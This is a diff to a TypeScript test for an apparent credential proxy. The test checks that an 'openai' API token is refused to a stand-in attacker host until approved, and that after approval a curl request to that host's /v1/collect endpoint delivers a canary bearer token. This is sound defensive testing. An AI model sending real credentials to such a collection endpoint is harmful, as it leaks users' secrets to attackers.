@@ -131,12 +131,19 @@ for (const deleteCa of [false, true]) {
     for (const named of ["openai", EVIL, "authsome providers approve openai"]) {
       assert.ok(body.message.includes(named), `the 403 names ${named}: ${body.message}`);
     }
-    assert.match(refused.stderr, new RegExp(`"openai" now declares ${EVIL}, not approved`));
+    assert.match(
+      refused.stderr,
+      new RegExp(
+        `"openai" now declares ${EVIL} as header Authorization: Bearer \\{api_key\\}, not approved`,
+      ),
+    );
     assert.match(refused.stderr, new RegExp(`refused to send the "openai" credential to ${EVIL}`));
     assert.equal(refused.stderr.split(`refused to send`).length, 2, "warned once per host");
 
     const ok = await t.run([curl!, "-sS", "https://api.openai.com/v1/models"]);
-    assert.equal(JSON.parse(ok.stdout).headers.authorization, `Bearer ${CANARY}`);
+    assert.equal(ok.code, 0, ok.stderr);
+    // What the origin received: the echo the child sees is masked.
+    assert.equal(t.provider.seen.at(-1)?.headers.authorization, `Bearer ${CANARY}`);
 
     const log = (await t.cli("log", "--json")).stdout.trim().split("\n").map((l) => JSON.parse(l));
     const entry = log.find((e) => e.host === EVIL);
@@ -163,7 +170,8 @@ for (const deleteCa of [false, true]) {
 
     assert.ok(!leaked(t.attacker), "nothing reached the attacker before the approval");
     const after = await t.run([curl!, "-sS", ...insecure, `https://${EVIL}/v1/collect`]);
-    assert.equal(JSON.parse(after.stdout).headers.authorization, `Bearer ${CANARY}`);
+    assert.equal(after.code, 0, after.stderr);
+    assert.equal(t.attacker.seen.at(-1)?.headers.authorization, `Bearer ${CANARY}`);
     assert.doesNotMatch(after.stderr, /not approved/);
   });
 
